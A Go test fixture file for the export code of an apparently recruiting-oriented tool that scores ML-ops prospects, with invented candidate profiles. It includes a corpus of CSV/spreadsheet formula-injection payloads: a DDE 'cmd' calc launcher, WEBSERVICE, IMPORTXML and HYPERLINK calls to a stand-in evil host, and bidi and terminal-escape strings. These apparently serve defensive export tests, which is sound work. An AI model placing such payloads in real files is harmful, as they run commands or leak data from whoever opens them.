package export

import (
	"strconv"
	"time"

	"mlscout/ranker"
	"mlscout/talent"
)

var now = time.Date(2026, 11, 22, 9, 0, 0, 0, time.UTC)

func day(text string) talent.Day {
	d, err := talent.ParseDay(text)
	if err != nil {
		panic(err)
	}
	return d
}

func testOptions() Options {
	names := map[talent.ToolID]string{"kubeflow": "Kubeflow", "mlflow": "MLflow", "kserve": "KServe"}
	return Options{
		List: "mlops-eu", Purpose: "hiring for the platform team", By: "Rosa Recruiter", Destination: "hiring manager",
		Query: "tool:kubeflow AND country:DE", Version: "0.1.0", Now: now,
		ToolName: func(id talent.ToolID) string { return names[id] },
	}
}

// ada is an invented prospect with everything filled in.
func ada() Person {
	entries := ranker.Ledger{
		{
			Tool: "kubeflow", Area: "pipelines", Kind: talent.Review, Repo: "kubeflow/pipelines",
			What: "reviewed 14 pull requests in kubeflow/pipelines", URL: "https://github.com/kubeflow/pipelines/pull/1",
			At: day("2026-09-12"), First: "2025-02", Months: 9, Count: 14, Points: 2150,
		},
		{
			Tool: "kserve", Area: "serving", Kind: talent.PullRequest, Repo: "kserve/kserve",
			What: "merged 3 pull requests in kserve/kserve", URL: "https://github.com/kserve/kserve/pull/2",
			At: day("2026-10-01"), First: "2026-08", Months: 2, Count: 3, Points: 1575,
		},
	}
	return Person{
		Prospect: talent.Prospect{
			ID: 990000001, Login: "ada-example", Name: "Ada Muster", Bio: "ML platform engineer", Company: "@example",
			Location: "Berlin, Germany", Website: "https://ada.example.org/",
			Links: []talent.Link{
				{Provider: "linkedin", URL: "https://www.linkedin.com/in/ada-example"},
				{Provider: "mastodon", URL: "https://social.example.org/@ada"},
			},
			Place: talent.Place{
				Text: "Berlin, Germany", City: "Berlin", Country: "DE", Zone: "Europe/Berlin", Offset: "+01:00", Confidence: talent.High,
			},
			Collected: day("2026-06-01"), Expires: day("2027-06-01"), State: talent.Active,
			Profile: talent.Provenance{Source: "https://github.com/ada-example", FetchedAt: day("2026-11-01"), Extractor: "github/1"},
			Evidence: []talent.Evidence{{
				Tool: "kubeflow", Kind: talent.Review, Repo: "kubeflow/pipelines", What: "Fix the cache", Count: 1, At: day("2026-09-12"),
				URL:        "https://github.com/kubeflow/pipelines/pull/1",
				Provenance: talent.Provenance{Source: "https://api.github.com/graphql", FetchedAt: day("2026-11-01"), Extractor: "github/1"},
			}},
			Posts: []talent.Post{{
				Source: "hn", NativeID: "990000007", Author: "ada_hn", Kind: talent.Seeking, Text: "Location: Berlin", PostedAt: now,
				URL: "https://news.example.org/item?id=990000007",
			}},
		},
		Score: ranker.Score{
			Points: 3725, Band: talent.Strong, Ledger: entries,
			Tools: []ranker.ToolScore{{Tool: "kubeflow", Points: 2150}, {Tool: "kserve", Points: 1575}},
			Areas: []ranker.AreaScore{
				{Area: talent.Pipelines, Points: 2150, Depth: 1400, Active: 750, Level: ranker.Covered},
				{Area: talent.Serving, Points: 1575, Depth: 1575, Level: ranker.Touched},
				{Area: talent.Monitoring, Level: ranker.Unknown}, {Area: "iac", Level: ranker.Unknown, Supporting: true},
			},
		},
		Listing: talent.Listing{
			List: "mlops-eu", Stage: talent.StageReviewed, Reason: "deep Kubeflow", Tags: []string{"core"},
			Notes: []talent.Note{{At: now, By: "Rosa", Text: "ask about\nmulti-tenancy"}},
		},
		Contact:    Contact{"ada@example.org", "https://news.example.org/item?id=990000007"},
		OpenToWork: Open{true, "https://news.example.org/item?id=990000007", day("2026-11-01")},
		Remote:     "yes",
	}
}

// bare is a prospect of whom nearly nothing is known.
func bare() Person {
	return Person{Prospect: talent.Prospect{ID: 990000002, Login: "bare", Expires: day("2027-01-01")}, Score: ranker.Score{Band: talent.TooLittle}}
}

// threeNames is known only from a board.
func threeNames() Person {
	p := bare()
	p.ID, p.Login, p.Name = talent.BoardID("hackernews", "mci"), "mci", "Maria del Ejemplo"
	p.Identities = []talent.Identity{{Platform: "hackernews", Account: "mci", URL: "https://news.example.org/user?id=mci"}}
	p.NoContact = true
	return p
}

// hostile puts one text into everything that a person can write.
func hostile(i int, text string) Person {
	p := ada()
	p.ID = talent.ProspectID(991000000 + i)
	p.Name, p.Bio, p.Company, p.Location, p.Website = text, text, text, text, text
	p.Place = talent.Place{Text: text, City: text, Region: text}
	p.Links = []talent.Link{{Provider: "linkedin", URL: text}, {URL: "https://example.org/" + text}}
	p.Contact = Contact{text, text}
	p.OpenToWork.Source = text
	p.Listing.Reason = text
	p.Listing.Notes[0].Text = text
	p.Listing.Tags = []string{text}
	p.Matched, p.Gaps = []string{text}, []string{text}
	p.Score.Ledger = append(ranker.Ledger{}, p.Score.Ledger...)
	p.Score.Ledger[0].What, p.Score.Ledger[0].Repo, p.Score.Ledger[0].URL = text, text, text
	return p
}

// hostileTexts is a corpus of at least 200 cells that spreadsheets, importers
// and terminals have been attacked with.
func hostileTexts() []string {
	payloads := []string{
		"1+1", "cmd|'/c calc'!A0", "HYPERLINK(\"https://evil.example.org\",\"x\")", "SUM(A1:A9)", "DDE(\"a\";\"b\";\"c\")",
		"WEBSERVICE(\"https://evil.example.org\")", "IMPORTXML(\"https://evil.example.org\",\"//a\")", "2", "ada",
	}
	leads := []string{"=", "+", "-", "@", "＝", "＋", "－", "＠", " =", "\t=", "\r=", "\n=", "\u00a0=", "\u3000＝", "\u200b=", "\ufeff=", "\u202e=", "\x00=", "==", "=-", "\u2800=", "\u00ad+"}
	var texts []string
	for _, lead := range leads {
		for _, payload := range payloads {
			texts = append(texts, lead+payload)
		}
	}
	return append(texts,
		"a\n=1", "a;=1+1", "a\t=1", "a,=1", `"=1`, `","=1+1","`, "a\r\n=1", "-", "=", "+351 912", "@ada",
		"\u202eevil\u202c", "\u2066x\u2069", "a\u200bb", "\x1b[31mred", "\xff\xfe", "e\u0301", "👩🏽‍🔬", "\U000e0041hidden",
		"_x003D_1+1", "]]>", "<b>&amp;</b>", "\ufffe\uffff", "null", "1e5", "01234", "TRUE", "2026-01-02", "'quoted", "''", "‘=1",
	)
}

func stream(people ...Person) People {
	return func(yield func(Person, error) bool) {
		for _, p := range people {
			if !yield(p, nil) {
				return
			}
		}
	}
}

// crowd is n invented people with a few entries each.
func crowd(n, entries int) People {
	one := ada()
	return func(yield func(Person, error) bool) {
		for i := range n {
			p := one
			p.ID += talent.ProspectID(i)
			p.Login = "person-" + strconv.Itoa(i)
			p.Name = "Person Number" + strconv.Itoa(i)
			p.Score.Ledger = make(ranker.Ledger, entries)
			for e := range entries {
				p.Score.Ledger[e] = one.Score.Ledger[e%2]
				p.Score.Ledger[e].URL = "https://github.com/kubeflow/pipelines/pull/" + strconv.Itoa(i*entries+e)
			}
			if !yield(p, nil) {
				return
			}
		}
	}
}
